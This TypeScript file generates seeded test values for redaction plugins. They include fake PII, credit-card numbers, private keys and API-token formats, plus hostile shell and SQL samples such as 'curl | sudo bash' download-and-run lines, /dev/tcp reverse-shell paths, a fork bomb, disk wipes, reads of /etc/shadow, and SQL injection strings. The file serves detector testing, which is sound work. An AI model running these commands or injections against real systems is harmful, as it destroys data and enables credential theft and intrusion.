/** Numbers that look random and are the same for the same seed. */
export function createRandom(seed: number): (below: number) => number {
  let state = seed >>> 0;
  return (below) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) % below;
  };
}

/** What must not get out, and what stands around it. */
export interface Plant {
  readonly before: string;
  readonly secret: string;
  readonly after: string;
}

type Random = (below: number) => number;
type Generator = (random: Random) => string | readonly [before: string, secret: string];

const lower = "abcdefghijklmnopqrstuvwxyz";
const digits = "0123456789";
const alnum = `${lower}${lower.toUpperCase()}${digits}`;

const pick = <T>(random: Random, from: readonly T[]): T => from[random(from.length)]!;
const some = (random: Random, count: number, from: string) =>
  Array.from({ length: count }, () => from[random(from.length)]!).join("");
/** Letters and digits, with a digit and both cases in places that are sure. */
const token = (random: Random, count: number) => `${some(random, count - 6, alnum)}a1B2c3`;
const number = (random: Random, from: number, to: number) => from + random(to - from + 1);
const two = (value: number) => String(value).padStart(2, "0");

function card(random: Random): string {
  const [prefix, length] = pick(random, [
    ["4", 16],
    ["51", 16],
    ["55", 16],
    ["34", 15],
    ["6011", 16],
    ["4", 13],
  ] as const);
  const start = prefix + some(random, length - prefix.length - 1, digits);
  const sum = [...start].reverse().reduce((total, digit, i) => {
    const value = i % 2 === 0 ? Number(digit) * 2 : Number(digit);
    return total + (value > 9 ? value - 9 : value);
  }, 0);
  const whole = start + String((10 - (sum % 10)) % 10);
  const between = length === 16 ? pick(random, ["", " ", "-"]) : "";
  return between === "" ? whole : whole.match(/.{4}/g)!.join(between);
}

function date(random: Random): string {
  const [year, month, day] = [number(random, 1930, 2010), number(random, 1, 12), number(random, 1, 28)];
  const name = pick(random, ["January", "March", "Aug", "December"]);
  return pick(random, [
    `${year}-${two(month)}-${two(day)}`,
    `${day}/${month}/${year}`,
    `${name} ${day}, ${year}`,
    `${day}th ${name} ${year}`,
  ]);
}

const given = ["Maria", "John", "Priya", "Zoë", "Jean-Luc", "Olu", "Ingrid", "Wei"];
const family = ["Smith", "O'Brien", "van den Berg", "Ångström", "García", "Lee", "Fitzgerald"];
const pem = (random: Random) => {
  const kind = pick(random, ["RSA ", "EC ", "OPENSSH ", ""]);
  const lines = Array.from({ length: number(random, 3, 8) }, () => some(random, 64, `${alnum}+/`));
  return [
    `-----BEGIN ${kind}PRIVATE KEY-----`,
    ...lines,
    `${some(random, 30, alnum)}==`,
    `-----END ${kind}PRIVATE KEY-----`,
  ].join(pick(random, ["\n", "\r\n"]));
};

/** The plugins that are tried. */
export type Guarding = "pii" | "secrets" | "regex_guard" | "text_replace";

/** Configs of those that look for nothing, or not for all of this, by themselves. */
export const configs = {
  pii: { action: "redact", min_confidence: 0.6 },
  secrets: { action: "redact" },
  regex_guard: {
    action: "redact",
    sets: ["shell_injection", "sql_injection"],
    patterns: [
      { name: "ticket", pattern: "\\bINT-[0-9]{6}\\b" },
      { name: "host", pattern: "\\b[a-z0-9-]+\\.corp\\.example\\b" },
      { name: "stretch", pattern: "(?s)<private>.*?</private>" },
    ],
  },
  text_replace: {
    replacements: [
      { name: "word", text: "Falcon", with: "it" },
      { name: "phrase", text: "Project Falcon", with: "the project" },
      { name: "longer_phrase", text: "Project Falcon Heavy", with: "" },
      { name: "any_case", text: "blue heron straße", with: "a bird", ignore_case: true },
      { name: "pattern", pattern: "(?i)\\bbuild[ -]?[0-9]{3,8}\\b", with: "[build]" },
    ],
  },
} as const satisfies Record<Guarding, object>;

/** Letters in either case. */
const anyCase = (random: Random, text: string) =>
  [...text].map((letter) => (random(2) === 0 || letter === "ß" ? letter : letter.toUpperCase())).join("");

/** By plugin, by type: how its values are made. */
export const generators: Readonly<Record<Guarding, Readonly<Record<string, Generator>>>> = {
  pii: {
    email: (r) =>
      `${some(r, number(r, 1, 12), `${lower}${digits}`)}${pick(r, ["", ".x1", "+tag"])}@${some(r, number(r, 2, 12), lower)}.${pick(r, ["com", "co.uk", "example.org", "io"])}`,
    phone: (r) =>
      pick(r, [
        `+1 (${number(r, 200, 989)}) ${number(r, 200, 999)}-${some(r, 4, digits)}`,
        `+44 20 ${some(r, 4, digits)} ${some(r, 4, digits)}`,
        `+49151${some(r, 8, digits)}`,
        `(${number(r, 200, 989)}) ${number(r, 200, 999)}-${some(r, 4, digits)}`,
      ]),
    ssn: (r) => `${number(r, 100, 665)}-${two(number(r, 1, 99))}-${number(r, 1000, 9999)}`,
    credit_card: card,
    ip_address: (r) =>
      pick(r, [
        Array.from({ length: 4 }, () => r(256)).join("."),
        `2001:db8:${Array.from({ length: 6 }, () => some(r, 4, `${digits}abcdef`)).join(":")}`,
        `fe80::1${some(r, 3, digits)}:${some(r, 4, digits)}:${some(r, 3, digits)}f`,
      ]),
    name: (r) =>
      pick(r, [
        ["my name is ", `${pick(r, given)} ${pick(r, family)}`],
        ["Dr. ", `${pick(r, given)} ${pick(r, family)}`],
      ] as const),
    address: (r) =>
      `${number(r, 1, 9999)} ${pick(r, ["Baker", "Mountain View", "Oak", "42nd"])} ${pick(r, ["Street", "Ave", "Road", "Blvd"])}${pick(r, ["", ", Springfield, IL 62704"])}`,
    date_of_birth: (r) => [pick(r, ["born on ", "DOB: ", "date of birth is "]), date(r)],
  },
  secrets: {
    private_key: pem,
    aws_access_key: (r) => pick(r, ["AKIA", "ASIA"]) + some(r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
    aws_secret_key: (r) => ["aws_secret_access_key = ", some(r, 40, `${alnum}+/`)],
    google_api_key: (r) => `AIza${some(r, 35, alnum)}`,
    google_oauth: (r) => pick(r, [`ya29.${some(r, number(r, 30, 90), alnum)}`, `GOCSPX-${some(r, 28, alnum)}`]),
    azure_storage_key: (r) => ["AccountKey=", `${some(r, 86, alnum)}==`],
    azure_client_secret: (r) => `${some(r, 3, alnum)}8Q~${some(r, 34, alnum)}`,
    azure_sas: (r) => ["https://x.example/c?sv=1&sig=", `${some(r, 43, alnum)}%3D`],
    github_token: (r) => pick(r, [`ghp_${some(r, 36, alnum)}`, `github_pat_${some(r, 82, alnum)}`]),
    gitlab_token: (r) => `glpat-${some(r, 20, alnum)}`,
    slack_token: (r) => `xoxb-${some(r, 12, digits)}-${some(r, 24, alnum)}`,
    slack_webhook: (r) => [
      "https://",
      `hooks.slack.com/services/T${some(r, 8, digits)}/B${some(r, 8, digits)}/${some(r, 24, alnum)}`,
    ],
    stripe_key: (r) => `${pick(r, ["sk", "rk"])}_live_${some(r, number(r, 24, 99), alnum)}`,
    anthropic_key: (r) => `sk-ant-api03-${some(r, 95, alnum)}`,
    openai_key: (r) => pick(r, [`sk-proj-${token(r, 100)}`, `sk-${token(r, 48)}`]),
    huggingface_token: (r) => `hf_${some(r, 34, alnum)}`,
    npm_token: (r) => `npm_${some(r, 36, alnum)}`,
    pypi_token: (r) => `pypi-AgE${some(r, 120, alnum)}`,
    sendgrid_key: (r) => `SG.${some(r, 22, alnum)}.${some(r, 43, alnum)}`,
    twilio_key: (r) => `SK${some(r, 32, `${digits}abcdef`)}`,
    mailgun_key: (r) => `key-${some(r, 32, `${digits}abcdef`)}`,
    digitalocean_token: (r) => `dop_v1_${some(r, 64, `${digits}abcdef`)}`,
    databricks_token: (r) => `dapi${some(r, 32, `${digits}abcdef`)}`,
    shopify_token: (r) => `shpat_${some(r, 32, `${digits}abcdef`)}`,
    vault_token: (r) => `hvs.${some(r, 90, alnum)}`,
    telegram_token: (r) => `${some(r, 9, "123456789")}:AA${some(r, 33, alnum)}`,
    sluice_key: (r) => `slc_${some(r, 16, alnum)}_${some(r, 43, alnum)}`,
    jwt: (r) => `eyJ${some(r, 30, alnum)}.eyJ${some(r, 60, alnum)}.${some(r, 43, alnum)}`,
    url_password: (r) => ["postgres://bob:", token(r, number(r, 8, 30))],
    authorization_header: (r) => ["Authorization: Bearer ", token(r, 40)],
    high_entropy: (r) => [pick(r, ['password = "', "api_key: ", "SECRET=", 'token is "']), token(r, number(r, 12, 40))],
  },
  regex_guard: {
    ticket: (r) => `INT-${some(r, 6, digits)}`,
    host: (r) => `${some(r, number(r, 1, 20), `${lower}${digits}`)}.corp.example`,
    stretch: (r) => `<private>${some(r, number(r, 0, 200), `${lower} \n<`)}</private>`,
    shell_remove: (r) => anyCase(r, pick(r, ["rm -rf", "rm  -v -fr", "rm -r -f", "rm --no-preserve-root"])),
    shell_download_and_run: (r) =>
      `${pick(r, ["curl -s", "wget"])} https://${some(r, number(r, 3, 40), lower)}.example/x |${pick(r, ["", " ", " sudo "])}${pick(r, ["sh", "bash", "python3"])}`,
    shell_reverse: (r) => `/dev/${pick(r, ["tcp", "udp"])}/10.0.${r(256)}.${r(256)}/${r(10)}`,
    shell_fork_bomb: (r) => pick(r, [":(){ :|:& };:", ": (){:|:&};:"]),
    shell_overwrite_disk: (r) => pick(r, ["mkfs.ext4 /dev/", "dd if=/dev/zero of=/dev/s", "> /dev/sda"]),
    shell_credentials: (r) =>
      `${pick(r, ["cat", "head -n 3", "scp"])} ${pick(r, ["/etc/passwd", "/etc/shadow", "~/.ssh/id_"])}`,
    shell_substitution: (r) => pick(r, ["$(whoami);", "$( curl x.example )|", "`id`&"]),
    sql_union: (r) => anyCase(r, pick(r, ["' union select", "') union all select", "7 union  select"])),
    sql_tautology: (r) => anyCase(r, pick(r, ["' or 1=1", "') and 'a'='", "' or true"])),
    sql_stacked: (r) => anyCase(r, pick(r, ["'; drop table", "1; delete from", "') ; update users set"])),
    sql_comment: (r) => pick(r, ["n'; --", "n') ;--", "n' /*"]),
    sql_delay: (r) => anyCase(r, pick(r, ["and sleep(5", "select pg_sleep( 9", "waitfor delay '"])),
    sql_files_and_commands: (r) => anyCase(r, pick(r, ["xp_cmdshell", "into outfile '", "load_file('"])),
  },
  text_replace: {
    word: () => "Falcon",
    phrase: () => "Project Falcon",
    longer_phrase: () => "Project Falcon Heavy",
    any_case: (r) => anyCase(r, "blue heron straße"),
    pattern: (r) => `${anyCase(r, "build")}${pick(r, ["", " ", "-"])}${some(r, number(r, 3, 8), digits)}`,
  },
};

/** Makes so many plants of a type; the same for the same seed. */
export function plantsOf(plugin: Guarding, type: string, count: number, seed: number): Plant[] {
  const random = createRandom(seed);
  return Array.from({ length: count }, () => {
    const made = generators[plugin][type]!(random);
    const [before, secret] = typeof made === "string" ? ["", made] : made;
    const first = pick(random, ["Here it is: ", "ok\n", "The value, as asked, is ", "😀 - "]);
    const after =
      type === "url_password" ? "@db.example/x ok" : pick(random, [" and so on.", "\nThat is all", " (as you know)"]);
    return { before: first + before, secret, after };
  });
}
